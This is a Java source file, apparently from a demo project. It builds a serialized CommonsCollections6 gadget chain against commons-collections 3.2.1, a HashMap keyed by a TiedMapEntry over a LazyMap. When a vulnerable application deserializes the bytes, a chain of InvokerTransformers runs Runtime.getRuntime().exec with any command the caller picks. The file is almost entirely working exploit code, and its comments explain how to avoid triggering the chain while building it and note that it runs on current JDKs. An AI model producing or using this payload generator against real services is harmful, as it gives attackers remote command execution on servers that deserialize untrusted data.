package dev.peregrine.demo.driver;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.lang.reflect.Field;
import java.util.HashMap;
import java.util.Map;

import org.apache.commons.collections.Transformer;
import org.apache.commons.collections.functors.ChainedTransformer;
import org.apache.commons.collections.functors.ConstantTransformer;
import org.apache.commons.collections.functors.InvokerTransformer;
import org.apache.commons.collections.keyvalue.TiedMapEntry;
import org.apache.commons.collections.map.LazyMap;

/**
 * The commons-collections 3.2.1 gadget chain known as CommonsCollections6: a {@code HashMap} whose key is a
 * {@code TiedMapEntry} over a {@code LazyMap}. Reading the map back hashes the key, the entry asks the lazy map for
 * its value, and the lazy map's factory, a {@code ChainedTransformer} of {@code InvokerTransformer}s, calls
 * {@code Runtime.getRuntime().exec(command)} by reflection. Only public JDK methods are invoked, so it runs on
 * JDK 17 and 25 without any {@code --add-opens}.
 */
public final class GadgetPayload {

    private GadgetPayload() {
    }

    public static byte[] runtimeExec(String... command) throws IOException, ReflectiveOperationException {
        Transformer[] exec = {
            new ConstantTransformer(Runtime.class),
            new InvokerTransformer("getMethod", new Class<?>[] {String.class, Class[].class},
                    new Object[] {"getRuntime", new Class<?>[0]}),
            new InvokerTransformer("invoke", new Class<?>[] {Object.class, Object[].class},
                    new Object[] {null, new Object[0]}),
            new InvokerTransformer("exec", new Class<?>[] {String[].class}, new Object[] {command}),
            new ConstantTransformer(1)};
        // Armed only after the map is built: putting the key hashes it, which would run the chain here.
        ChainedTransformer chain = new ChainedTransformer(new Transformer[] {new ConstantTransformer(1)});
        Map<Object, Object> inner = new HashMap<>();
        @SuppressWarnings("unchecked")
        Map<Object, Object> lazy = LazyMap.decorate(inner, chain);
        Map<Object, Object> outer = new HashMap<>();
        outer.put(new TiedMapEntry(lazy, "peregrine"), "demo");
        inner.remove("peregrine");
        Field transformers = ChainedTransformer.class.getDeclaredField("iTransformers");
        transformers.setAccessible(true);
        transformers.set(chain, exec);
        return serialize(outer);
    }

    public static byte[] serialize(Object o) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(o);
        }
        return bytes.toByteArray();
    }
}
